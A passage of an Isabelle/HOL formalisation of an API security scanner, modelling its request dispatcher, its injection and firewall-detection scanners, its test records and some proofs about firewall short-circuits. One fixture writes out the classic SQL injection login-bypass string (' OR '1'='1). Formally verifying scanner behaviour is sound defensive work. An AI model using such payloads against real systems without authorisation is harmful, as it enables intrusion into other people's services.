                       Some (AList.update ''test'' (JStr payload) (or_empty (queryParams endpoint)))\<rparr>]
               else injectedEndpoints))"

section \<open>The request dispatcher\<close>

text \<open>\<^verbatim>\<open>String(v)\<close>, as \<^verbatim>\<open>URLSearchParams\<close> applies it to the values of a mapping.\<close>

fun js_String :: "jv \<Rightarrow> string" where
  "js_String JNull = ''null''"
| "js_String (JBool b) = (if b then ''true'' else ''false'')"
| "js_String (JNum n) = show_int n"
| "js_String (JStr s) = s"
| "js_String (JArr xs) = join '','' (map (\<lambda>x. if x = JNull then [] else js_String x) xs)"
| "js_String (JObj entries) = ''[object Object]''"

definition URLSearchParams_toString :: "(string \<times> jv) list \<Rightarrow> string" where
  "URLSearchParams_toString params =
     join ''&'' (map (\<lambda>(k, v). form_encode k @ ''='' @ form_encode (js_String v)) params)"

text \<open>
  What is handed to the HTTP client. The option \<^verbatim>\<open>validateStatus: () => true\<close> makes
  the client take every status code for a response.
\<close>

record config =
  config_method :: string
  config_url :: string
  config_headers :: "(string \<times> string) list"
  timeout :: nat
  maxRedirects :: nat
  config_data :: body

text \<open>A body that is there: a mapping, or raw text that is not empty.\<close>

fun truthy_body :: "body \<Rightarrow> bool" where
  "truthy_body NoBody = False"
| "truthy_body (Mapping entries) = True"
| "truthy_body (Raw text) = (text \<noteq> [])"

definition request_config :: "'a endpoint_scheme \<Rightarrow> config" where
  "request_config endpoint =
     (let url = url endpoint;
          url = (if \<not> startsWith url ''http://'' \<and> \<not> startsWith url ''https://''
                 then ''https://'' @ url else url);
          url =
            (if 0 < length (keys (queryParams endpoint)) then
               (let separator = (if str_includes url ''?'' then ''&'' else ''?'');
                    params = URLSearchParams_toString (or_empty (queryParams endpoint))
                in url @ separator @ params)
             else url);
          config =
            \<lparr>config_method = (if method endpoint \<noteq> [] then method endpoint else ''GET''),
             config_url = url,
             config_headers =
               fold (\<lambda>(k, v). AList.update k v) (or_empty (endpoint_headers endpoint))
                 [(''User-Agent'', ''API-Security-Scanner/1.0''), (''Accept'', ''*/*'')],
             timeout = 15000,
             maxRedirects = 5,
             config_data = NoBody\<rparr>
      in
      if truthy_body (body endpoint) \<and> method endpoint \<in> set [''POST'', ''PUT'', ''PATCH''] then
        (let config = config\<lparr>config_data := body endpoint\<rparr> in
         if (case map_of (config_headers config) ''Content-Type'' of
               None \<Rightarrow> True | Some v \<Rightarrow> v = [])
         then config\<lparr>config_headers :=
                AList.update ''Content-Type''
                  (case body endpoint of
                     Mapping entries \<Rightarrow> ''application/json''
                   | _ \<Rightarrow> ''application/x-www-form-urlencoded'')
                  (config_headers config)\<rparr>
         else config)
      else config)"

text \<open>
  The world outside: the outcome of the HTTP client (a response, or a rejection) and
  the clock, both read by the number of the step at which they are asked, and the
  identifier that the generator of UUIDs gives.
\<close>

record world =
  axios :: "nat \<Rightarrow> config \<Rightarrow> js_error + response"
  now :: "nat \<Rightarrow> int"
  uuid :: string

record send_result =
  success :: bool
  response :: response
  responseTime :: int
  error :: "string option"

text \<open>
  \<open>sendRequest w t endpoint\<close> is the request sent at step \<open>t\<close>; it gives the outcome
  of the promise, \<open>Inr\<close> when it resolves and \<open>Inl\<close> when it rejects, and the step
  after it.
\<close>

definition sendRequest ::
  "world \<Rightarrow> nat \<Rightarrow> 'a endpoint_scheme \<Rightarrow> (js_error + send_result) \<times> nat" where
  "sendRequest w t endpoint =
     (let startTime = now w t in
      case axios w (t + 1) (request_config endpoint) of
        Inr resp \<Rightarrow>
          (let endTime = now w (t + 2) in
           (Inr \<lparr>success = True, response = resp, responseTime = endTime - startTime,
                 error = None\<rparr>, t + 3))
      | Inl err \<Rightarrow>
          (let endTime = now w (t + 2) in
           (Inr \<lparr>success = False,
                 response =
                   \<lparr>status = (case error_response err of None \<Rightarrow> 0 | Some r \<Rightarrow> status r),
                    data = (case error_response err of
                              None \<Rightarrow> Text (message err)
                            | Some r \<Rightarrow> if truthy_data (data r) then data r else Text (message err)),
                    headers = (case error_response err of None \<Rightarrow> [] | Some r \<Rightarrow> headers r)\<rparr>,
                 responseTime = endTime - startTime,
                 error =
                   Some (if code err = Some ''ECONNREFUSED''
                         then ''Connection refused - server may be down''
                         else if code err = Some ''ETIMEDOUT'' then ''Request timed out''
                         else message err)\<rparr>, t + 3)))"

section \<open>The baseline\<close>

record baseline =
  baseline_status :: nat
  baseline_responseTime :: int
  contentLength :: "string option"

definition getBaseline :: "world \<Rightarrow> nat \<Rightarrow> endpoint \<Rightarrow> (js_error + baseline) \<times> nat" where
  "getBaseline w t endpoint =
     (case sendRequest w t endpoint of
        (Inl err, t) \<Rightarrow> (Inl err, t)
      | (Inr sent, t) \<Rightarrow>
          (Inr \<lparr>baseline_status = status (response sent),
                baseline_responseTime = responseTime sent,
                contentLength =
                  (if truthy_header (response sent) ''content-length''
                   then header (response sent) ''content-length'' else None)\<rparr>, t))"

section \<open>The registry of scanners\<close>

text \<open>
  What every scanner module exports. \<open>analyzeResponse\<close> takes the state of the modules
  and gives it back; \<open>Inl\<close> is an exception thrown by the analyzer.
\<close>

record scanner =
  getType :: string
  getSeverity :: string
  getPayloads :: "string list"
  analyzeResponse ::
    "modules \<Rightarrow> response \<Rightarrow> string \<Rightarrow> nat option \<Rightarrow> int option \<Rightarrow> (js_error + analysis) \<times> modules"

definition returned :: "analysis \<times> modules \<Rightarrow> (js_error + analysis) \<times> modules" where
  "returned r = (Inr (fst r), snd r)"

definition sqlScanner :: scanner where
  "sqlScanner =
     \<lparr>getType = ''SQL Injection'', getSeverity = ''Critical'', getPayloads = sqlInjection,
      analyzeResponse = (\<lambda>m r p original time. returned (sql_analyzeResponse m r p original))\<rparr>"

definition xssScanner :: scanner where
  "xssScanner =
     \<lparr>getType = ''XSS'', getSeverity = ''High'', getPayloads = xss,
      analyzeResponse = (\<lambda>m r p original time. returned (xss_analyzeResponse m r p original))\<rparr>"

definition commandInjectionScanner :: scanner where
  "commandInjectionScanner =
     \<lparr>getType = ''Command Injection'', getSeverity = ''Critical'', getPayloads = commandInjection,
      analyzeResponse = (\<lambda>m r p original time. returned (cmd_analyzeResponse m r p original time))\<rparr>"

definition pathTraversalScanner :: scanner where
  "pathTraversalScanner =
     \<lparr>getType = ''Path Traversal'', getSeverity = ''High'', getPayloads = pathTraversal,
      analyzeResponse = (\<lambda>m r p original time. returned (path_analyzeResponse m r p original))\<rparr>"

definition nosqlInjectionScanner :: scanner where
  "nosqlInjectionScanner =
     \<lparr>getType = ''NoSQL Injection'', getSeverity = ''Critical'', getPayloads = nosqlInjection,
      analyzeResponse = (\<lambda>m r p original time. returned (nosql_analyzeResponse m r p original))\<rparr>"

definition headerInjectionScanner :: scanner where
  "headerInjectionScanner =
     \<lparr>getType = ''Header Injection'', getSeverity = ''High'', getPayloads = headerInjection,
      analyzeResponse = (\<lambda>m r p original time. returned (header_analyzeResponse m r p original))\<rparr>"

definition rateLimitingScanner :: scanner where
  "rateLimitingScanner =
     \<lparr>getType = ''Rate Limiting'', getSeverity = ''Medium'',
      getPayloads = [''rate_limit_test_1'', ''rate_limit_test_2'', ''rate_limit_test_3''],
      analyzeResponse = (\<lambda>m r p original time. returned (rate_analyzeResponse m r p original time))\<rparr>"

definition malformedPayloadScanner :: scanner where
  "malformedPayloadScanner =
     \<lparr>getType = ''Malformed Payload'', getSeverity = ''Low'', getPayloads = malformedPayloads,
      analyzeResponse = (\<lambda>m r p original time. returned (malformed_analyzeResponse m r p original))\<rparr>"

definition httpMethodScanner :: scanner where
  "httpMethodScanner =
     \<lparr>getType = ''HTTP Method'', getSeverity = ''Medium'', getPayloads = httpMethods,
      analyzeResponse = (\<lambda>m r p original time. returned (method_analyzeResponse m r p original))\<rparr>"

definition payloadSizeScanner :: scanner where
  "payloadSizeScanner =
     \<lparr>getType = ''Payload Size'', getSeverity = ''Medium'', getPayloads = sizeTests,
      analyzeResponse = (\<lambda>m r p original time. returned (size_analyzeResponse m r p original time))\<rparr>"

definition scanners :: "scanner list" where
  "scanners = [
      sqlScanner, xssScanner, commandInjectionScanner, pathTraversalScanner,
      nosqlInjectionScanner, headerInjectionScanner, rateLimitingScanner,
      malformedPayloadScanner, httpMethodScanner, payloadSizeScanner]"

section \<open>Test records\<close>

definition truncateResponse :: "data \<Rightarrow> string" where
  "truncateResponse d =
     (if \<not> truthy_data d then ''[No response body]''
      else let str = data_text d in
        if js_length str \<le> 200 then str
        else substring0 str 200 @ ''... [truncated]'')"

datatype verdict = PASS | FAIL | ERROR

text \<open>
  One probe's record. The fields that only some records carry are options. The time
  of the test is the reading of the clock, not its ISO-8601 text.
\<close>

record test_record =
  test_type :: string
  severity :: string
  test_payload :: string
  test_injectionPoint :: string
  requestUrl :: "string option"
  requestMethod :: "string option"
  responseCode :: nat
  test_responseTime :: int
  responseSize :: "nat option"
  responsePreview :: "string option"
  testedAt :: int
  test_result :: verdict
  test_notes :: string
  test_indicators :: "string list"
  test_confidence :: "confidence option"
  baselineStatus :: "nat option"
  statusChanged :: "bool option"

record summary =
  total :: nat
  passed :: nat
  failed :: nat
  errors :: nat

record endpoint_result =
  api :: string
  result_method :: string
  result_url :: string
  scan_error :: "string option"
  tests :: "test_record list"
  summary :: summary

record options =
  scanTypes :: "string list option"
  maxPayloads :: "int option"
  injectLocation :: "string option"

text \<open>The step of the world and the modules as the tests so far have left them.\<close>

record state =
  tick :: nat
  mods :: modules

section \<open>The scan of one endpoint\<close>

text \<open>\<^verbatim>\<open>xs.slice(0, n)\<close>: a negative \<open>n\<close> counts from the end.\<close>

definition slice0 :: "'a list \<Rightarrow> int \<Rightarrow> 'a list" where
  "slice0 xs n = (if n < 0 then take (nat (int (length xs) + n)) xs else take (nat n) xs)"

text \<open>The record pushed by the handler of the inner \<^verbatim>\<open>try\<close>.\<close>

definition failed_test :: "scanner \<Rightarrow> string \<Rightarrow> variant \<Rightarrow> js_error \<Rightarrow> int \<Rightarrow> test_record" where
  "failed_test scanner payload injectedEndpoint err time =
     \<lparr>test_type = getType scanner, severity = getSeverity scanner, test_payload = payload,
      test_injectionPoint = injectionPoint injectedEndpoint,
      requestUrl = None, requestMethod = None,
      responseCode = 0, test_responseTime = 0, responseSize = None, responsePreview = None,
      testedAt = time, test_result = ERROR,
      test_notes = ''Scan error: '' @ message err,
      test_indicators = [''Test execution failed''],
      test_confidence = None, baselineStatus = None, statusChanged = None\<rparr>"

text \<open>One pass of the innermost loop: the test of one injected endpoint.\<close>

definition run_test ::
  "world \<Rightarrow> scanner \<Rightarrow> baseline option \<Rightarrow> string \<Rightarrow> variant \<Rightarrow>
   endpoint_result \<times> state \<Rightarrow> endpoint_result \<times> state" where
  "run_test w scanner baseline payload injectedEndpoint = (\<lambda>(results, s).
     let results = results\<lparr>summary := (summary results)\<lparr>total := total (summary results) + 1\<rparr>\<rparr>;
         caught = (\<lambda>err t m.
           (results\<lparr>tests := tests results @ [failed_test scanner payload injectedEndpoint err (now w t)],
                     summary := (summary results)\<lparr>errors := errors (summary results) + 1\<rparr>\<rparr>,
            s\<lparr>tick := t + 1, mods := m\<rparr>))
     in
     case sendRequest w (tick s + 1) injectedEndpoint of
       (Inl err, t) \<Rightarrow> caught err t (mods s)
     | (Inr sent, t) \<Rightarrow>
         (let testResult =
                \<lparr>test_type = getType scanner, severity = getSeverity scanner, test_payload = payload,
                 test_injectionPoint = injectionPoint injectedEndpoint,
                 requestUrl = Some (url injectedEndpoint),
                 requestMethod = Some (method injectedEndpoint),
                 responseCode = status (response sent),
                 test_responseTime = responseTime sent,
                 responseSize = Some (js_length (responseBody (response sent))),
                 responsePreview = Some (truncateResponse (data (response sent))),
                 testedAt = now w t, test_result = ERROR, test_notes = [], test_indicators = [],
                 test_confidence = None, baselineStatus = None, statusChanged = None\<rparr>;
              t = t + 1
          in
          if (case error sent of None \<Rightarrow> False | Some text \<Rightarrow> text \<noteq> []) \<and> \<not> success sent then
            (results\<lparr>tests := tests results @
                        [testResult\<lparr>test_result := ERROR,
                           test_notes := ''Request failed: '' @
                             (case error sent of None \<Rightarrow> [] | Some text \<Rightarrow> text),
                           test_indicators := [''Request could not be completed'']\<rparr>],
                      summary := (summary results)\<lparr>errors := errors (summary results) + 1\<rparr>\<rparr>,
             s\<lparr>tick := t\<rparr>)
          else
            (case analyzeResponse scanner (mods s) (response sent) payload
                    (map_option baseline_status baseline) (Some (responseTime sent)) of
               (Inl err, m) \<Rightarrow> caught err t m
             | (Inr analysis, m) \<Rightarrow>
                 (let testResult = testResult
                        \<lparr>test_result := (if vulnerable analysis then FAIL else PASS),
                         test_confidence := Some (confidence analysis),
                         test_indicators := indicators analysis,
                         test_notes :=
                           (if notes analysis \<noteq> [] then notes analysis
                            else if vulnerable analysis
                            then ''Potential vulnerability detected based on response analysis''
                            else ''No vulnerability indicators found in response'')\<rparr>;
                      testResult =
                        (case baseline of
                           None \<Rightarrow> testResult
                         | Some b \<Rightarrow> testResult
                             \<lparr>baselineStatus := Some (baseline_status b),
                              statusChanged := Some (status (response sent) \<noteq> baseline_status b)\<rparr>);
                      results = results\<lparr>tests := tests results @ [testResult]\<rparr>;
                      results =
                        (if vulnerable analysis
                         then results\<lparr>summary := (summary results)\<lparr>failed := failed (summary results) + 1\<rparr>\<rparr>
                         else results\<lparr>summary := (summary results)\<lparr>passed := passed (summary results) + 1\<rparr>\<rparr>)
                  in (results, s\<lparr>tick := t, mods := m\<rparr>)))))"

definition scannersToUse :: "options \<Rightarrow> scanner list" where
  "scannersToUse options =
     (case scanTypes options of
        None \<Rightarrow> scanners
      | Some types \<Rightarrow>
          if 0 < length types then filter (\<lambda>s. getType s \<in> set types) scanners else scanners)"

definition maxPayloads_used :: "options \<Rightarrow> int" where
  "maxPayloads_used options =
     (case maxPayloads options of None \<Rightarrow> 5 | Some n \<Rightarrow> if n \<noteq> 0 then n else 5)"

definition injectLocation_used :: "options \<Rightarrow> string" where
  "injectLocation_used options =
     (case injectLocation options of
        None \<Rightarrow> ''all'' | Some location \<Rightarrow> if location \<noteq> [] then location else ''all'')"

text \<open>
  The scan of one endpoint: \<open>Inr\<close> is the result it returns, \<open>Inl\<close> the error it throws.
  Only the call of \<^verbatim>\<open>injectPayload\<close> stands outside the inner \<^verbatim>\<open>try\<close>: an error that it
  throws ends the scan, and the passes that would follow do nothing.
\<close>

definition scanEndpoint ::
  "world \<Rightarrow> state \<Rightarrow> endpoint \<Rightarrow> options \<Rightarrow> (js_error + endpoint_result) \<times> state" where
  "scanEndpoint w s endpoint options =
     (let results =
            \<lparr>api = (if name endpoint \<noteq> [] then name endpoint else url endpoint),
             result_method = method endpoint, result_url = url endpoint, scan_error = None,
             tests = [],
             summary = \<lparr>total = 0, passed = 0, failed = 0, errors = 0\<rparr>\<rparr>;
          (baseline, t) =
            (case getBaseline w (tick s) endpoint of
               (Inl err, t) \<Rightarrow> (None, t)
             | (Inr b, t) \<Rightarrow> (Some b, t));
          s = s\<lparr>tick := t\<rparr>;
          maxPayloads = maxPayloads_used options;
          (outcome, s) =
            fold (\<lambda>scanner.
                fold (\<lambda>payload (outcome, s).
                    case outcome of
                      Inl thrown \<Rightarrow> (Inl thrown, s)
                    | Inr results \<Rightarrow>
                        (case injectPayload_call endpoint payload (injectLocation_used options) of
                           Inl thrown \<Rightarrow> (Inl thrown, s)
                         | Inr injectedEndpoints \<Rightarrow>
                             (case fold (run_test w scanner baseline payload)
                                     (take 2 injectedEndpoints) (results, s) of
                                (results, s) \<Rightarrow> (Inr results, s))))
                  (slice0 (getPayloads scanner) maxPayloads))
              (scannersToUse options) (Inr results, s)
      in (outcome, s))"

section \<open>The scan of a list of endpoints\<close>

record vulnerability =
  vuln_endpoint :: string
  vuln_type :: string
  vuln_severity :: string
  vuln_payload :: string
  vuln_confidence :: "confidence option"

record report_summary =
  totalEndpoints :: nat
  totalTests :: nat
  report_passed :: nat
  report_failed :: nat
  report_errors :: nat
  vulnerabilities :: "vulnerability list"

record progress =
  current :: nat
  progress_total :: nat
  progress_endpoint :: string

text \<open>
  The report, with the events handed to the progress callback, in order, and the
  duration, which is there once the scan is over.
\<close>

record report =
  scanId :: string
  timestamp :: int
  report_options :: options
  report_endpoints :: "endpoint_result list"
  scan_summary :: report_summary
  duration :: "int option"
  events :: "progress list"

text \<open>One pass of the loop of \<^verbatim>\<open>runScan\<close>, for the endpoint at index \<open>i\<close>.\<close>

definition scan_one ::
  "world \<Rightarrow> options \<Rightarrow> bool \<Rightarrow> nat \<Rightarrow> nat \<times> endpoint \<Rightarrow> report \<times> state \<Rightarrow> report \<times> state" where
  "scan_one w options progressCallback n = (\<lambda>(i, endpoint) (results, s).
     let results =
           (if progressCallback then
              results\<lparr>events := events results @
                 [\<lparr>current = i + 1, progress_total = n,
                   progress_endpoint = (if name endpoint \<noteq> [] then name endpoint else url endpoint)\<rparr>]\<rparr>
            else results)
     in
     case scanEndpoint w s endpoint options of
       (Inr endpointResults, s) \<Rightarrow>
         (let vulns = filter (\<lambda>t. test_result t = FAIL) (tests endpointResults);
              sm = scan_summary results;
              sm = sm\<lparr>totalTests := totalTests sm + total (summary endpointResults),
                      report_passed := report_passed sm + passed (summary endpointResults),
                      report_failed := report_failed sm + failed (summary endpointResults),
                      report_errors := report_errors sm + errors (summary endpointResults),
                      vulnerabilities := vulnerabilities sm @
                        map (\<lambda>v. \<lparr>vuln_endpoint = api endpointResults, vuln_type = test_type v,
                                   vuln_severity = severity v, vuln_payload = test_payload v,
                                   vuln_confidence = test_confidence v\<rparr>) vulns\<rparr>
          in (results\<lparr>report_endpoints := report_endpoints results @ [endpointResults], scan_summary := sm\<rparr>, s))
     | (Inl err, s) \<Rightarrow>
         (let sm = scan_summary results in
          (results\<lparr>report_endpoints := report_endpoints results @
                      [\<lparr>api = (if name endpoint \<noteq> [] then name endpoint else url endpoint),
                        result_method = method endpoint, result_url = url endpoint,
                        scan_error = Some (message err), tests = [],
                        summary = \<lparr>total = 0, passed = 0, failed = 0, errors = 1\<rparr>\<rparr>],
                    scan_summary := sm\<lparr>report_errors := report_errors sm + 1\<rparr>\<rparr>, s)))"

definition runScan ::
  "world \<Rightarrow> state \<Rightarrow> endpoint list \<Rightarrow> options \<Rightarrow> bool \<Rightarrow> report \<times> state" where
  "runScan w s endpoints options progressCallback =
     (let startTime = now w (tick s);
          results =
            \<lparr>scanId = uuid w, timestamp = now w (tick s + 1), report_options = options,
             report_endpoints = [],
             scan_summary =
               \<lparr>totalEndpoints = length endpoints, totalTests = 0, report_passed = 0,
                report_failed = 0, report_errors = 0, vulnerabilities = []\<rparr>,
             duration = None, events = []\<rparr>;
          s = s\<lparr>tick := tick s + 2\<rparr>;
          (results, s) =
            fold (scan_one w options progressCallback (length endpoints))
              (zip [0..<length endpoints] endpoints) (results, s)
      in (results\<lparr>duration := Some (now w (tick s) - startTime)\<rparr>, s\<lparr>tick := tick s + 1\<rparr>))"

section \<open>Endpoints as objects in a store\<close>

text \<open>
  The same strategy on the objects themselves, to see what the variants share. A value
  is a primitive or a reference to an object or an array of the store; a new object
  takes the next free address.
\<close>

type_synonym addr = nat

datatype hval = HNull | HBool bool | HNum int | HStr string | HRef addr

datatype hobj = HObject "(string \<times> hval) list" | HArray "hval list"

record store =
  objects :: "addr \<Rightarrow> hobj option"
  fresh :: addr

definition alloc :: "hobj \<Rightarrow> store \<Rightarrow> hval \<times> store" where
  "alloc obj h = (HRef (fresh h), \<lparr>objects = (objects h)(fresh h \<mapsto> obj), fresh = fresh h + 1\<rparr>)"





text \<open>\<^verbatim>\<open>JSON.parse\<close>, from the tree: every object and array of the tree is built anew.\<close>

fun build_json :: "jv \<Rightarrow> store \<Rightarrow> hval \<times> store"
  and build_fields :: "(string \<times> jv) list \<Rightarrow> store \<Rightarrow> (string \<times> hval) list \<times> store"
  and build_items :: "jv list \<Rightarrow> store \<Rightarrow> hval list \<times> store" where
  "build_json JNull h = (HNull, h)"
| "build_json (JBool b) h = (HBool b, h)"
| "build_json (JNum i) h = (HNum i, h)"
| "build_json (JStr s) h = (HStr s, h)"
| "build_json (JObj props) h = (case build_fields props h of (fs, h) \<Rightarrow> alloc (HObject fs) h)"
| "build_json (JArr items) h = (case build_items items h of (vs, h) \<Rightarrow> alloc (HArray vs) h)"
| "build_fields [] h = ([], h)"
| "build_fields ((k, t) # props) h =
     (case build_json t h of (v, h) \<Rightarrow>
        (case build_fields props h of (fs, h) \<Rightarrow> ((k, v) # fs, h)))"
| "build_items [] h = ([], h)"
| "build_items (t # items) h =
     (case build_json t h of (v, h) \<Rightarrow>
        (case build_items items h of (vs, h) \<Rightarrow> (v # vs, h)))"



















section \<open>Analyzers called on objects of the store\<close>











section \<open>Quantities and inputs used in the proofs\<close>

text \<open>The number of test records, and the agreement of the counter with it.\<close>

definition counted :: "endpoint_result \<times> state \<Rightarrow> nat" where
  "counted a = length (tests (fst a))"

definition consistent :: "endpoint_result \<times> state \<Rightarrow> bool" where
  "consistent a = (total (summary (fst a)) = length (tests (fst a)))"

text \<open>The three loops of \<open>scanEndpoint\<close> and the result they start from.\<close>

definition scan_tests ::
  "world \<Rightarrow> endpoint \<Rightarrow> options \<Rightarrow> baseline option \<Rightarrow>
   endpoint_result \<times> state \<Rightarrow> endpoint_result \<times> state" where
  "scan_tests w e opts bl =
     fold (\<lambda>sc. fold (\<lambda>p. fold (run_test w sc bl p)
                              (take 2 (injectPayload e p (injectLocation_used opts))))
                       (slice0 (getPayloads sc) (maxPayloads_used opts)))
          (scannersToUse opts)"

definition scan_start :: "endpoint \<Rightarrow> endpoint_result" where
  "scan_start e =
     \<lparr>api = (if name e \<noteq> [] then name e else url e),
      result_method = method e, result_url = url e, scan_error = None, tests = [],
      summary = \<lparr>total = 0, passed = 0, failed = 0, errors = 0\<rparr>\<rparr>"

definition report_tests :: "report \<times> state \<Rightarrow> nat" where
  "report_tests a = sum_list (map (\<lambda>e. length (tests e)) (report_endpoints (fst a)))"

definition report_consistent :: "report \<times> state \<Rightarrow> bool" where
  "report_consistent a = (totalTests (scan_summary (fst a)) = report_tests a)"

text \<open>
  What a test record says of its probe: the type of the scanner, the payload and the
  injection point. And the probes of a scan by the scanners \<open>scs\<close> with the first \<open>n\<close>
  payloads of each and the first two variants of each payload, in the order of the
  loops.
\<close>

definition probe :: "test_record \<Rightarrow> string \<times> string \<times> string" where
  "probe t = (test_type t, test_payload t, test_injectionPoint t)"

definition planned ::
  "scanner list \<Rightarrow> nat \<Rightarrow> endpoint \<Rightarrow> string \<Rightarrow> (string \<times> string \<times> string) list" where
  "planned scs n e loc =
     concat (map (\<lambda>sc.
        concat (map (\<lambda>p. map (\<lambda>v. (getType sc, p, injectionPoint v))
                               (take 2 (injectPayload e p loc)))
                    (take n (getPayloads sc))))
       scs)"

text \<open>Every record so far carries a preview, and it is what \<open>truncateResponse\<close> gives.\<close>

definition previewed :: "endpoint_result \<times> state \<Rightarrow> bool" where
  "previewed a = (\<forall>t \<in> set (tests (fst a)). \<exists>d. responsePreview t = Some (truncateResponse d))"

text \<open>The keys of a structured body; none for a body that is absent or raw text.\<close>

fun body_keys :: "body \<Rightarrow> string list" where
  "body_keys (Mapping entries) = map fst entries"
| "body_keys NoBody = []"
| "body_keys (Raw text) = []"

text \<open>A response of a firewall, one of a login that succeeded, one of an edge proxy.\<close>

definition blocked_response :: response where
  "blocked_response = \<lparr>status = 403, data = Text ''Access denied: exception'', headers = []\<rparr>"

definition login_response :: response where
  \<open>login_response = \<lparr>status = 200, data = Text ''{"token":"abc"}'', headers = []\<rparr>\<close>

definition proxy_response :: response where
  "proxy_response = \<lparr>status = 200, data = Text ''Cloudflare Ray ID: 7d'', headers = []\<rparr>"

definition auth_payload :: string where
  "auth_payload = [CHR 0x27] @ '' OR '1'='1''"

text \<open>An endpoint, a world whose server refuses every connection, and options.\<close>

definition example_endpoint :: endpoint where
  "example_endpoint =
     \<lparr>name = ''login'', method = ''GET'', url = ''http://localhost/login'',
      endpoint_headers = Some [], body = NoBody, queryParams = Some []\<rparr>"


definition refusing_world :: world where
  "refusing_world =
     \<lparr>axios = (\<lambda>n c. Inl \<lparr>code = Some ''ECONNREFUSED'', message = ''connect ECONNREFUSED'',
                            error_response = None\<rparr>),
      now = (\<lambda>n. int n), uuid = ''0''\<rparr>"

text \<open>A world whose server answers every request with 201 letters.\<close>

definition verbose_world :: world where
  "verbose_world =
     \<lparr>axios = (\<lambda>n c. Inr \<lparr>status = 200, data = Text (replicate 201 CHR ''A''), headers = []\<rparr>),
      now = (\<lambda>n. int n), uuid = ''0''\<rparr>"

definition example_options :: options where
  "example_options = \<lparr>scanTypes = Some [''XSS''], maxPayloads = Some 3, injectLocation = None\<rparr>"

section \<open>Text and regular expressions\<close>

lemma startsWith_append: "startsWith (t @ s) t"
  by (induction t) auto

lemma str_includes_append: "str_includes (a @ t @ b) t"
proof (induction a)
  case Nil
  show ?case by (cases "t @ b") (use startsWith_append [of t b] in auto)
next
  case (Cons c a)
  then show ?case by simp
qed

lemma startsWith_split: "startsWith s t \<Longrightarrow> \<exists>b. s = t @ b"
  by (induction s t rule: startsWith.induct) auto

lemma str_includes_split: "str_includes s t \<Longrightarrow> \<exists>a b. s = a @ t @ b"
proof (induction s)
  case Nil
  then show ?case by simp
next
  case (Cons c s)
  from Cons.prems consider "startsWith (c # s) t" | "str_includes s t" by auto
  then show ?case
  proof cases
    case 1
    then obtain b where "c # s = t @ b" using startsWith_split by blast
    then have "c # s = [] @ t @ b" by simp
    then show ?thesis by blast
  next
    case 2
    then obtain a b where "s = a @ t @ b" using Cons.IH by blast
    then have "c # s = (c # a) @ t @ b" by simp
    then show ?thesis by blast
  qed
qed

lemma run_lit: "rest \<in> set (run ic (lit w) (w @ rest))"
  by (induction w) (auto simp: canonicalize_def)

lemma run_alts: "r \<in> set rs \<Longrightarrow> set (run ic r s) \<subseteq> set (run ic (alts rs) s)"
  by (induction rs rule: alts.induct) auto

lemma first_match_here: "run ic r s \<noteq> [] \<Longrightarrow> first_match ic r s \<noteq> None"
  by (cases s) (auto split: list.splits)

lemma first_match_later: "first_match ic r s \<noteq> None \<Longrightarrow> first_match ic r (a @ s) \<noteq> None"
  by (induction a) (auto split: list.splits)

text \<open>An alternation of words, without the flag \<^verbatim>\<open>g\<close>, finds each of its words.\<close>

lemma test_literal_alts:
  assumes "\<not> global R" "expression R = alts rs" "lit w \<in> set rs" "str_includes s w"
  shows "test_literal R s"
proof -
  obtain a b where s: "s = a @ w @ b" using assms(4) str_includes_split by blast
  have "b \<in> set (run (ignoreCase R) (alts rs) (w @ b))"
    using run_lit [of b "ignoreCase R" w] run_alts [OF assms(3)] by blast
  then have "run (ignoreCase R) (alts rs) (w @ b) \<noteq> []" by auto
  then have "first_match (ignoreCase R) (alts rs) (a @ w @ b) \<noteq> None"
    using first_match_here first_match_later by blast
  then show ?thesis
    using assms(1,2) by (auto simp: test_literal_def regexp_test_def s split: option.splits)
qed



section \<open>The analyzers leave the modules as they are\<close>

















section \<open>The short-circuit on a firewall\<close>

lemma waf_sql:
  assumes "status r = 403 \<or> status r = 406 \<or> status r = 429"
    and "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) sql_wafIndicators"
  shows "sql_analyzeResponse m r p b =
    (\<lparr>vulnerable = False, confidence = High,
      indicators = [check_mark @ '' WAF/Firewall blocked the malicious request'',
                    ''Response status: '' @ show_nat (status r)],
      notes = ''PROTECTED: Web Application Firewall detected and blocked the SQL injection attempt. The application is secured by WAF.''\<rparr>, m)"
  using assms
  by (simp add: sql_analyzeResponse_def sql_isWAFBlocked_def Let_def push_def new_result_def)

lemma waf_xss:
  assumes "status r = 403 \<or> status r = 406 \<or> status r = 429"
    and "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) xss_wafIndicators"
  shows "xss_analyzeResponse m r p b =
    (\<lparr>vulnerable = False, confidence = High,
      indicators = [check_mark @ '' WAF/Firewall blocked the malicious request'',
                    ''Response status: '' @ show_nat (status r)],
      notes = ''PROTECTED: Web Application Firewall detected and blocked the XSS attempt. The application is secured by WAF.''\<rparr>, m)"
  using assms
  by (simp add: xss_analyzeResponse_def xss_isWAFBlocked_def Let_def push_def new_result_def)

lemma waf_cmd:
  assumes "status r = 403 \<or> status r = 406 \<or> status r = 429"
    and "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) cmd_wafIndicators"
  shows "cmd_analyzeResponse m r p b t =
    (\<lparr>vulnerable = False, confidence = High,
      indicators = [check_mark @ '' WAF/Firewall blocked the malicious request''],
      notes = ''PROTECTED: WAF detected and blocked the command injection attempt.''\<rparr>, m)"
  using assms
  by (simp add: cmd_analyzeResponse_def cmd_isWAFBlocked_def Let_def push_def new_result_def)

lemma waf_path:
  assumes "status r = 403 \<or> status r = 406 \<or> status r = 429"
    and "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) path_wafIndicators"
  shows "path_analyzeResponse m r p b =
    (\<lparr>vulnerable = False, confidence = High,
      indicators = [check_mark @ '' WAF/Firewall blocked the malicious request''],
      notes = ''PROTECTED: WAF detected and blocked the path traversal attempt.''\<rparr>, m)"
  using assms
  by (simp add: path_analyzeResponse_def path_isWAFBlocked_def Let_def push_def new_result_def)

lemma waf_rate:
  assumes "status r = 403 \<or> status r = 406 \<or> status r = 429"
    and "list_ex (\<lambda>i. str_includes (toLowerCase (responseBody r)) i) rate_wafIndicators"
  shows "rate_analyzeResponse m r p b t =
    (\<lparr>vulnerable = False, confidence = High,
      indicators = [if status r = 429
                    then check_mark @ '' Rate limiting is active (429 Too Many Requests)''
                    else check_mark @ '' Bot/DDoS protection is active''],
      notes = (if status r = 429 then ''PROTECTED: Server properly implements rate limiting''
               else ''PROTECTED: Server has anti-bot/rate limiting measures'')\<rparr>, m)"
  using assms
